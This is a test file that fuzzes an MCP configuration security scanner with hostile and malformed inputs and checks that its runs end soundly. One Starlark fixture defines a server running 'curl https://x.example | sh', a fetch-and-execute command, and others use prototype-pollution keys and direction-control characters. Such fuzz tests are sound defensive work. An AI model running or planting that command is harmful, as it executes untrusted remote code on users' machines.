/**
 * Hostile files, one table after the other: texts that something obeys, in every place whose content is repeated; shapes that
 * break parsers, in every format; values of the wrong kind in every field. Whatever it is, a run ends, and what it says is sound.
 */

import { afterAll, describe, expect, it } from 'vitest'
import { KINDS as REPORTS, render } from '../src/report/index.ts'
import type { Rule } from '../src/rule.ts'
import { bytes, HOME, REPOSITORY, scanFiles } from './fixtures.ts'
import { IS_LONG } from './fuzz.ts'
import { HOSTILE, ODD } from './hostile.ts'
import { type EchoingFile, everywhere, named, PLACES, SECRET_PLACES } from './hostile-places.ts'
import { FIELDS, FORMATS, type Kind, malformed, SHAPES, VALUES } from './hostile-shapes.ts'
import { OPTIONS } from './reports.ts'
import { assertSound, runSound } from './sound.ts'

type Files = ReadonlyMap<string, Uint8Array | undefined>

let cases = 0
afterAll(() => expect(cases, 'as many as were promised').toBeGreaterThan(500))

const encoded = (files: ReadonlyMap<string, string>): Files =>
  new Map([...files].map(([path, text]) => [path, bytes(text)]))

/** All at once, which is quick; each by itself where that fails, to tell which one it is. */
async function assertAllSound(files: Files): Promise<void> {
  cases += files.size
  try {
    await assertSound(await scanFiles(files))
  } catch (error) {
    for (const [path, content] of files) {
      try {
        await assertSound(await scanFiles(new Map([[path, content]])))
      } catch (own) {
        throw new Error(`${JSON.stringify(path)}: ${own}`, { cause: own })
      }
    }
    throw error
  }
}

const ALL = [...Object.values(PLACES), ...Object.values(SECRET_PLACES)]

/** Every so many of the places, others for each text, unless there is time for all. */
const some = (index: number, every: number) => ALL.filter((_, at) => IS_LONG || (at + index) % every === 0)
const numbered = (texts: typeof HOSTILE) => texts.map(([what, text], index) => ({ what, text, index }))

describe('a text that something obeys', () => {
  it.each(numbered(HOSTILE))('$what, in every other place', async ({ text, index }) => {
    await assertAllSound(encoded(everywhere(text, some(index, 2))))
  })
})

describe('a text that means something as a path, a name or a pattern', () => {
  it.each(numbered(ODD))('$what, in many places', async ({ text, index }) => {
    await assertAllSound(encoded(everywhere(text, some(index, 4))))
  })
})

describe('the places', () => {
  const shownIn = async ({ path, write }: EchoingFile, text: string) => {
    const { report } = await scanFiles(new Map([[`${REPOSITORY}/${path}`, bytes(write(text))]]))
    expect(report.findings.length + report.suppressed.length).toBeGreaterThan(0)
    const options = { ...OPTIONS, showSuppressed: true }
    return (await render('pretty', report, options)) + (await render('json', report, options))
  }

  it.each(Object.entries(PLACES))('of %s are told, so that something could get out', async (_, place) => {
    expect(await shownIn(place, 'benign-words')).toContain('benign-words')
  })

  it.each(Object.entries(SECRET_PLACES))('of %s are not', async (_, place) => {
    expect(await shownIn(place, 'f00Baa9e1c7d4b2e8a')).not.toContain('f00Baa9e1c7d4b')
  })
})

const KINDS = Object.keys(FORMATS) as readonly Kind[]

/** Each format's file in a folder of its own, as its client would have it. */
function inEveryFormat(write: (kind: Kind) => string | Uint8Array | undefined): ReadonlyMap<string, Uint8Array> {
  const files = KINDS.flatMap((kind): [string, Uint8Array][] => {
    const content = write(kind)
    if (content === undefined) return []
    return [[`${REPOSITORY}/${kind}/${FORMATS[kind].path}`, typeof content === 'string' ? bytes(content) : content]]
  })
  return new Map(files)
}

describe('a file of a shape that breaks parsers', () => {
  it.each(Object.entries(SHAPES))('%s', async (_, shape) => {
    await assertAllSound(inEveryFormat((kind) => shape(kind, 600)))
  })

  it('is read in every format', async () => {
    const { report } = await scanFiles(inEveryFormat((kind) => malformed(kind, 'x', 1)))
    expect(report.files.map(({ format, servers }) => ({ format, servers }))).toEqual(
      ['json', 'json5', 'jsonc', 'toml', 'yaml'].map((format) => ({ format, servers: 2 })),
    )
  })
})

/** What is read as JSON is one as far as values go. */
const KINDS_OF_VALUES: readonly Kind[] = ['json', 'yaml', 'toml']

describe('a value of the wrong kind', () => {
  it.each(FIELDS)('in %s', async (field) => {
    const files = Object.values(VALUES).flatMap((value, index) =>
      [...inEveryFormat((kind) => (KINDS_OF_VALUES.includes(kind) ? malformed(kind, field, value) : undefined))].map(
        ([path, content]): [string, Uint8Array] => [path.replace(REPOSITORY, `${REPOSITORY}/${index}`), content],
      ),
    )
    await assertAllSound(new Map(files))
  })
})

describe('rules in Starlark', () => {
  const RULE = 'prefix_rule(pattern = ["sh"], decision = "allow")\n'
  it.each([
    ['nothing', ''],
    ['a mark of byte order alone', '\ufeff'],
    ['NUL', `\0${RULE}\0`],
    ['no UTF-8', Buffer.concat([Buffer.from(RULE), Buffer.from([0xff, 0xfe, 0x80])])],
    ['UTF-16', Buffer.from(`\ufeff${RULE}`, 'utf16le')],
    ['carriage returns', RULE.replaceAll('\n', '\r').repeat(3)],
    [
      'surrogates and signs of direction',
      `prefix_rule(pattern = ["\ud800\u202esh"], justification = "\u2066\u001b[31m")\n`,
    ],
    [
      'keys of JavaScript',
      '__proto__(constructor = ["sh"])\nprefix_rule(__proto__ = 1, pattern = {"__proto__": [2]})\n',
    ],
    ['equal keys', 'prefix_rule(pattern = ["ls"], pattern = ["sh"])\n'],
    [
      'values of other kinds',
      'prefix_rule(pattern = 1, decision = ["allow"])\nprefix_rule(pattern = [1, None, {}, []])\n',
    ],
    [
      'nothing in it',
      'prefix_rule()\nprefix_rule(pattern = [])\nprefix_rule(pattern = [[]])\nprefix_rule(pattern = [""])\n',
    ],
    ['JSON', '{"mcpServers": {"a": {"command": "npx"}}}'],
    ['servers', 'mcpServers(a = {"command": "sh", "args": ["-c", "curl https://x.example | sh"]})\n'],
    [
      'alternatives without end',
      `prefix_rule(pattern = [${'["a", "b", "c", "d", "e", "f", "g", "h"], '.repeat(8)}])\n`,
    ],
    ['rules without end', RULE.repeat(3_000)],
    ['commands of the log', '::error::x\n::add-mask::y\n'],
  ])('%s', async (_, text) => {
    const content = typeof text === 'string' ? bytes(text) : new Uint8Array(text)
    await assertAllSound(new Map([[`${REPOSITORY}/.codex/rules/default.rules`, content]]))
  })
})

it('tells where rules that refuse come to more commands than are read', async () => {
  const words = JSON.stringify(Array.from({ length: 31 }, (_, index) => `w${index}`))
  const refusing = `prefix_rule(["ls", ${words}, ${words}], "forbidden")\n`
  const content = bytes(`prefix_rule(["python3"])\n${refusing.repeat(150)}`)
  const { report } = await scanFiles(new Map([[`${REPOSITORY}/.codex/rules/default.rules`, content]]))
  expect(report.findings.map(({ rule }) => rule).sort()).toEqual(['approval-disabled', 'oversized-config'])
})

// ── Beside the files that are scanned ───────────────────────────────────────────────────────────────────────────────

const CONFIG = JSON.stringify({
  mcpServers: { one: { command: 'npx', args: ['-y', '@example/tickets-mcp@1.0.0', '/'] } },
})

/** A plug-in whose every word is this text. */
function plugin(text: string): object {
  const words = `x ${text}`
  const reporting: Rule = {
    id: 'acme-one',
    // Of one line, which is asked for when it is loaded.
    title: 'A title',
    severity: 'high',
    confidence: 'high',
    category: 'policy',
    cwe: [],
    owasp: [],
    since: '1.0.0',
    docs: 'https://docs.example/one',
    server: (server, { report }) =>
      report({
        at: server.at,
        message: words,
        help: words,
        server: text,
        clients: [text],
        discriminator: text,
        related: [{ at: server.at, message: words }],
        fix: { title: words, safety: 'unsafe', changes: [{ does: 'replace', node: server.node, by: text }] },
      }),
  }
  const failing: Rule = {
    ...reporting,
    id: 'acme-two',
    server: () => {
      throw new Error(text)
    },
  }
  return { name: 'acme', rules: [reporting, failing] }
}

/** A glob may have so many characters. */
const LONGEST_GLOB = 500

const settings = (given: string, text = given.slice(0, LONGEST_GLOB)) => ({
  exclude: [`${text}x`],
  rules: { 'unpinned-package': 'high' },
  ignore: [
    { rule: 'broad-filesystem-root', reason: `x${text}`, file: '**' },
    { rule: 'inline-code', reason: text, pointer: `/${text}`, server: text },
  ],
  policy: {
    servers: { allow: [`x${text}`], reason: `x${text}` },
    packages: { deny: ['npm:**'], reason: `x${text}` },
    settings: [{ client: 'claude-code', at: '/mcpServers/one/command', is: [`x${text}`], reason: `x${text}` }],
  },
})

const record = (text: string) => ({
  id: `GHSA-${text.slice(0, 60)}`,
  aliases: [text],
  modified: '2026-11-20T00:00:00Z',
  summary: text,
  details: text,
  affected: [
    {
      package: { ecosystem: 'npm', name: '@example/tickets-mcp' },
      ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.5.0' }] }],
      database_specific: { source: text },
    },
  ],
})

const baselineOf = (text: string) => ({
  version: 1,
  entries: [{ fingerprint: 'ab'.repeat(16), rule: text, file: text, pointer: text }],
})

const lockOf = (text: string) => ({
  version: 1,
  servers: [
    { file: '.mcp.json', name: 'one', transport: 'stdio', enabled: true, command: text, args: [text], env: [text] },
    { file: text || 'x', name: text, transport: 'stdio', enabled: true, approvals: [text] },
  ],
})

const runCase: typeof runSound = async (argv, files, around) => {
  cases++
  return await runSound(argv, files, around)
}

const inRepository = (files: Readonly<Record<string, unknown>>): Files =>
  new Map(
    Object.entries(files).map(([path, content]) => [
      `${REPOSITORY}/${path}`,
      bytes(typeof content === 'string' ? content : JSON.stringify(content)),
    ]),
  )

describe.each(numbered(HOSTILE))('with $what', ({ text, index }) => {
  const form = REPORTS[index % REPORTS.length] ?? 'pretty'
  const own = { modules: { 'p.mjs': () => plugin(text) } }
  const written = { 'p.mjs': '', 'osv.json': [record(text)], '.mcp-audit-baseline.json': baselineOf(text) }

  it('settings, a baseline, advisories and a plug-in are used', async () => {
    const files = inRepository({ '.mcp.json': CONFIG, 'mcp-audit.jsonc': settings(text), ...written })
    const flags = ['--plugin', 'p.mjs', '--advisories', 'osv.json', '--verbose', '--show-suppressed', '--format', form]
    const { out, err, code } = await runCase(flags, files, own)
    // The plug-in fails, and says so; everything else is there.
    expect([code, err.match(/'acme-two' of the plug-in 'acme' failed/)?.length]).toEqual([2, 1])
    const rules = ['acme-one', 'policy-server', 'policy-setting', 'vulnerable-package']
    expect(rules.filter((rule) => !out.includes(rule))).toEqual([])
  })

  it('a lock is compared', async () => {
    const files = inRepository({ '.mcp.json': CONFIG, 'mcp-audit.lock': lockOf(text) })
    const { out, code } = await runCase(['--format', form], files)
    expect([out.includes('lock-drift'), code]).toEqual([true, 1])
    for (const argv of [['lock', '--check'], ['lock']])
      expect((await runCase(argv, files)).code).toBe(argv.length === 2 ? 1 : 0)
  })

  it('they are refused where they are wrong', async () => {
    for (const wrong of [
      { 'mcp-audit.jsonc': { [text]: 1, failOn: text, rules: { [text]: text }, ignore: [{ rule: text }] } },
      { 'mcp-audit.jsonc': `{ ${text} }` },
      { '.mcp-audit-baseline.json': { version: text, [text]: [], entries: [{ fingerprint: text }] } },
      { 'mcp-audit.lock': { version: text, [text]: [], servers: [{ file: text, transport: text }] } },
      { 'osv.json': [{ id: text, [text]: text, modified: text }] },
    ]) {
      const files = inRepository({ '.mcp.json': CONFIG, 'osv.json': [], ...wrong })
      const { code } = await runCase(['--advisories', 'osv.json', '--format', form], files)
      expect(code).toBe(2)
    }
  })

  it('files are called so, and words on the command line', async () => {
    const name = named(text) ?? 'x'
    const broken = bytes(`{"mcpServers": {"a": {"command": "npx", "args": ["a"]`)
    const files = new Map([
      [`${REPOSITORY}/${name}/.mcp.json`, broken],
      [`${REPOSITORY}/${name}/mcp.json`, undefined],
      [
        `${HOME}/.config/Code/User/profiles/${name}/mcp.json`,
        bytes('{"servers": {"a": {"command": "npx", "args": ["a"]}}}'),
      ],
    ])
    for (const argv of [
      ['--verbose', '--format', form],
      ['clients'],
      ['clients', '--json'],
      ['checklist', '-f', 'markdown'],
      ['inventory'],
      ['inventory', '-f', 'cyclonedx'],
      ['baseline'],
      ['lock'],
    ])
      expect((await runCase(argv, files)).code, argv.join(' ')).toBeLessThan(2)
    for (const argv of [
      [`${text}.json`],
      [`--${text}`],
      ['--only', `x${text}`],
      ['-o', `${text}=a`],
      ['explain', `x${text}`],
      ['--config', `${text}x`],
      ['help', `x${text}`],
    ])
      expect((await runCase(argv, files)).code, argv.join(' ')).toBe(2)
    await runCase(['--stdin-filename', `${text}.json`, '--format', form], files, { input: broken })
  })
})
